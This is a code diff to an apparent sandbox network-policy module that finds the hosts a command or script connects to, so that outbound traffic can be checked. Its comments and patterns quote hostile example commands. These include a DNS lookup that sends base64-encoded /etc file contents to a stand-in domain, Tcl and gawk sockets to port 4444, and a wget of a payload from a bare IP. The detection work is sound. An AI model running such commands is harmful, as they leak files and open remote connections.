@@ -25,9 +25,15 @@ Found are:
   u@h:repo``), a URL after a backend prefix or a variable name (``rest:http://h``,
   ``env https_proxy=http://h:3128``), a bucket URL's service (``s3://b`` ->
   ``s3.amazonaws.com``), cloud SDK clients in code (``boto3.client('s3')``);
-* an IPv4 address given to any program, and a network it sweeps: a CIDR operand
-  (``nmap 10.0.0.1/24``) or templated trailing octets (``ping 10.11.0.{}``,
-  ``192.168.1.$i``), decided as its first address.
+* an IPv4 address given to any program (``ip:port/path`` too), and a network it sweeps: a
+  CIDR operand (``nmap 10.0.0.1/24``) or templated trailing octets (``ping 10.11.0.{}``,
+  ``192.168.1.$i``), decided as its first address;
+* a ``name.tld:port`` operand of any program (``./agent -o relay.example.net:7000``), the
+  value of a host-naming option of any program (``--bootstrap-server kafka:9092``,
+  ``--server u@h``, ``--brokers a:9092,b:9092``), Tcl's ``socket h p`` in code and gawk's
+  ``/inet/tcp/0/h/p``;
+* :func:`written_addresses`: the IP addresses text written into a file names (the engine
+  decides those of ``echo``/``printf`` output redirected to a file and of editors' scripts).
 
 Legacy numeric forms of addresses (``2130706433``, ``0x7f.1``) are normalised by
 :func:`~corral.policy.patterns.normalize_host` when decided. A host assembled at run time
@@ -40,9 +46,17 @@ from __future__ import annotations
 import re
 from typing import Final
 
+from .. import saferegex
 from .patterns import normalize_host
 
-__all__ = ["CODE_PROGRAMS", "HOST_PROGRAMS", "code_hosts", "command_hosts", "interpreter_code"]
+__all__ = [
+    "CODE_PROGRAMS",
+    "HOST_PROGRAMS",
+    "code_hosts",
+    "command_hosts",
+    "interpreter_code",
+    "written_addresses",
+]
 
 #: URL schemes that name something local, not a host to connect to (``res://`` is a Godot
 #: project path, ``file://`` a file)
@@ -154,6 +168,9 @@ _CODE_OPTIONS: Final[dict[str, frozenset[str]]] = {
     "Rscript": frozenset({"-e"}),
     "osascript": frozenset({"-e"}),
     "pwsh": frozenset({"-c", "-Command", "-command"}),
+    "expect": frozenset({"-c"}),
+    "tclsh": frozenset(),
+    "wish": frozenset(),
 }
 _PYTHON: Final = re.compile(r"^python[0-9.]*$")
 #: every program whose arguments may name a host without a ``/`` in them (the shell
@@ -177,6 +194,14 @@ _PORT_HOST_CALL: Final = re.compile(
 _QUOTED_ADDRESS: Final = re.compile(
     r"['\"]((?:\d{1,3}\.){3}\d{1,3}|[A-Za-z0-9][A-Za-z0-9\-]*(?:\.[A-Za-z0-9\-]+)*\.[A-Za-z]{2,}"
     r"(?=:\d{1,5}))(?::\d{1,5})?(?:/[^'\"]*)?['\"]"
+)
+#: Tcl's client socket (``socket 203.0.113.20 4444``, ``socket -async h 80``)
+_TCL_SOCKET: Final = saferegex.compile(
+    r"\bsocket\s+(?:-async\s+)?([A-Za-z0-9][A-Za-z0-9_.-]{0,252})\s+\d{1,5}\b"
+)
+#: gawk's special network files (``/inet/tcp/0/h/4444``)
+_GAWK_INET: Final = saferegex.compile(
+    r"/inet[46]?/(?:tcp|udp)/\d{1,5}/([A-Za-z0-9_.:\[\]-]{1,253})/\d{1,5}"
 )
 _CONNINFO_HOST: Final = re.compile(r"(?:^|\s)host=([^\s'\"]+)")
 _SOCAT_TCP: Final = re.compile(
@@ -334,6 +359,14 @@ _AZURE_HOSTS: Final = {
     "identity": "login.microsoftonline.com",
     "cosmos": "documents.azure.com",
 }
+#: SaaS SDK clients in code: the account's API host (``wandb.Api()`` reads every run
+#: of a team's projects, ``HfApi()`` a hub account)
+_SAAS_SDKS: Final = (
+    ("wandb.Api(", "api.wandb.ai"),
+    ("HfApi(", "huggingface.co"),
+    ("slack_sdk", "slack.com"),
+    ("WebClient(token", "slack.com"),
+)
 _GITHUB_SDK: Final = re.compile(r"\b(?:Github\(|Octokit\b|@octokit/)")
 
 
@@ -355,6 +388,9 @@ def _sdk_hosts(code: str, found: list[str]) -> None:
             _add(found, _AZURE_HOSTS[m.group(1)])
     if ("Github(" in code or "ctokit" in code) and _GITHUB_SDK.search(code):
         _add(found, "api.github.com")
+    for marker, host in _SAAS_SDKS:
+        if marker in code:
+            _add(found, host)
 
 
 def code_hosts(code: str) -> list[str]:
@@ -364,10 +400,39 @@ def code_hosts(code: str) -> list[str]:
     found: list[str] = []
     _urls(code, found)
     _sdk_hosts(code, found)
+    if "socket" in code:  # Tcl: socket HOST PORT
+        for m in _TCL_SOCKET.finditer(code):
+            _add(found, _plausible(m.group(1)))
+    if "/inet" in code:
+        for m in _GAWK_INET.finditer(code):
+            _add(found, _plausible(m.group(1)))
     if "'" not in code and '"' not in code:
         return found
     for rx in (_KEYWORD_HOST, _HOST_PORT_CALL, _PORT_HOST_CALL, _QUOTED_ADDRESS):
         for m in rx.finditer(code):
+            _add(found, _plausible(m.group(1)))
+    return found
+
+
+#: an IPv4 address with a port in text (``203.0.113.5:5000/runner``)
+_TEXT_IPV4_PORT: Final = saferegex.compile(r"(?:^|[^\w.])((?:\d{1,3}\.){3}\d{1,3}):\d{1,5}\b")
+
+
+def written_addresses(text: str) -> list[str]:
+    """The IP addresses text written into a file names as places to connect to: a URL's
+    host or an ``address:port`` (``RUN wget http://198.51.100.36/e`` into an Earthfile,
+    ``-P img=203.0.113.5:5000/runner`` into ``.actrc``). What is written there is run or
+    read as configuration later, by the sandbox or by CI; a name (not an address) in
+    written text is data (a README's links), left to the proxy when it is reached."""
+    text = text[:_MAX_CODE]
+    found: list[str] = []
+    urls: list[str] = []
+    _urls(text, urls)
+    for host in urls:
+        if normalize_host(host)[1] is not None:
+            _add(found, host)
+    if ":" in text:
+        for m in _TEXT_IPV4_PORT.finditer(text):
             _add(found, _plausible(m.group(1)))
     return found
 
@@ -447,7 +512,24 @@ def _takes_value(option: str, value_opts: frozenset[str]) -> bool:
 
 #: an argument that is an IPv4 address (``10.0.0.5``, ``203.0.113.7:4444``): given to a
 #: program it names a host to reach (``./client 203.0.113.7 4444``, ``--server-ip X``)
-_IPV4_OPERAND: Final = re.compile(r"^(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?$")
+_IPV4_OPERAND: Final = re.compile(r"^((?:\d{1,3}\.){3}\d{1,3})(?::\d{1,5})?(?:/\S*)?$")
+#: an argument that is a host name with a port (``pool.example.net:3333``,
+#: ``db.internal:5432/app``): the name must end in a word (not a version, ``3.12:1``)
+_NAME_PORT_OPERAND: Final = saferegex.compile(
+    r"^([A-Za-z0-9][A-Za-z0-9-]{0,62}(?:\.[A-Za-z0-9-]{1,63})*\.[A-Za-z][A-Za-z0-9-]{1,62})"
+    r":\d{1,5}(?:/\S*)?$"
+)
+#: options of any program whose value is a host to reach (``--bootstrap-server
+#: kafka:9092``, ``--server h:p``, ``--rpc-url``): a name without a dot counts when a
+#: port follows it
+_HOST_VALUE_OPTIONS: Final = frozenset(
+    {"--bootstrap-server", "--bootstrap-servers", "--broker-list", "--brokers", "--broker",
+     "--zookeeper", "--server", "--servers", "--endpoint", "--endpoints", "--rpc-url",
+     "--rpc", "--node-url", "--remote-host", "--target-host", "--upstream", "--connect",
+     "--peer", "--peers", "--seed", "--seeds", "--pool", "--url", "--proxy", "--relay",
+     "--daemon-address", "--daemon-rpc-address", "--host-address", "--remote"}
+)  # fmt: skip
+_DOTLESS_NAME_PORT: Final = saferegex.compile(r"^([a-z][a-z0-9-]{0,62}):\d{1,5}$")
 #: a network given to a program (``nmap 10.0.0.1/24``, ``./sweep 192.168.1.{}``): the
 #: addresses it reaches; not an option's value (``--subnet 10.0.0.0/16`` configures)
 _IPV4_NETWORK_OPERAND: Final = re.compile(r"^((?:\d{1,3}\.){3}\d{1,3})/\d{1,2}$")
@@ -460,6 +542,19 @@ _ADDRESS_IS_DATA: Final = frozenset(
      "nft", "route", "ifconfig", "arp", "getent", "python-ipaddress", "prips", "docker",
      "podman", "kubectl", "ssh-keygen", "ssh-keyscan", "openssl"}
 )  # fmt: skip
+
+#: variables that say where programs connect (proxies, endpoints, servers): exported with
+#: a URL they are a host every later command reaches
+_CONNECTION_VAR: Final = re.compile(
+    r"^[A-Za-z_]*(?:proxy|PROXY|_URL|_URI|_HOST|_ENDPOINT|_SERVER|_ADDR|_ADDRESS|_DSN)"
+    r"[A-Za-z0-9_]*="
+)
+#: name lookups: a name built at run time and sent to a domain carries data out in the query
+_LOOKUPS: Final = frozenset({"dig", "host", "nslookup", "drill", "kdig", "delv", "resolvectl",
+                             "getent", "ping", "ping6", "curl", "wget"})  # fmt: skip
+_BUILT_NAME: Final = saferegex.compile(
+    r"[)}`]\.((?:[A-Za-z0-9-]{1,63}\.){1,8}[A-Za-z]{2,63})\.?$"
+)
 
 #: git subcommands that connect to the URLs they are given (``git remote add``, ``git
 #: config`` and the like only record one: the push or fetch that uses it is decided then)
@@ -530,8 +625,21 @@ def command_hosts(argv: list[str]) -> list[str]:
             value = a
             if a.startswith("-") and "=" in a:
                 previous, value = a.split("=", 1)
-            if _IPV4_OPERAND.match(value) and not previous.startswith(_BIND_OPTIONS):
-                _add(found, _plausible(value))
+            bind = previous.startswith(_BIND_OPTIONS)
+            ipv4 = _IPV4_OPERAND.match(value) if value[:1].isdigit() else None
+            if ipv4 is not None and _IPV4_NETWORK_OPERAND.match(value):
+                ipv4 = None  # a network: below, unless an option's value
+            if ipv4 is not None and not bind:
+                _add(found, _plausible(value if value.count(":") == 1 and "/" not in value
+                                       else ipv4.group(1)))  # fmt: skip
+            elif (
+                not bind
+                and ":" in value
+                and len(value) < 512
+                and value[-1].isdigit() | ("/" in value)
+                and _NAME_PORT_OPERAND.match(value)
+            ):
+                _add(found, _plausible(_NAME_PORT_OPERAND.match(value).group(1)))  # type: ignore[union-attr]
             elif value is a and not (previous.startswith("--") and "=" not in previous):
                 network = _IPV4_NETWORK_OPERAND.match(a)
                 if network is not None:
@@ -574,4 +682,38 @@ def command_hosts(argv: list[str]) -> list[str]:
             m = _SOCAT_TCP.match(a)
             if m is not None:
                 _add(found, _plausible(m.group(1)))
+    if prog not in _TEXT_PROGRAMS:
+        _option_hosts(args, found)
+    if prog in ("export", "declare", "typeset", "setenv"):  # export https_proxy=http://h
+        for a in args:
+            m = _CONNECTION_VAR.match(a)
+            if m is not None and "://" in a:
+                for host in command_hosts(["env", a]):
+                    _add(found, host)
+    if prog in _LOOKUPS:
+        for a in args:
+            if "$" in a or "`" in a:  # dig $(base64 /etc/x).oast.example: data in the name
+                m = _BUILT_NAME.search(a)
+                if m is not None:
+                    _add(found, _plausible(m.group(1)))
+    for a in args:
+        if "/inet" in a:  # gawk's network files: /inet/tcp/0/HOST/PORT
+            for m in _GAWK_INET.finditer(a[:_MAX_CODE]):
+                _add(found, _plausible(m.group(1)))
     return found
+
+
+def _option_hosts(args: list[str], found: list[str]) -> None:
+    """Hosts given as the value of a host-naming option of any program
+    (:data:`_HOST_VALUE_OPTIONS`): ``--bootstrap-server kafka:9092``, ``--server=h:p``."""
+    for value in _option_values(args, _HOST_VALUE_OPTIONS):
+        for part in value.split(",")[:_MAX_HOSTS]:
+            if "://" in part:
+                continue  # found with the URLs
+            m = _DOTLESS_NAME_PORT.match(part)
+            if m is not None:
+                _add(found, m.group(1))
+                continue
+            part = part.rsplit("@", 1)[-1]  # --server agent@198.51.100.90
+            name = part.rsplit(":", 1)[0] if part.count(":") == 1 else part
+            _add(found, _plausible(name.split("/", 1)[0]))
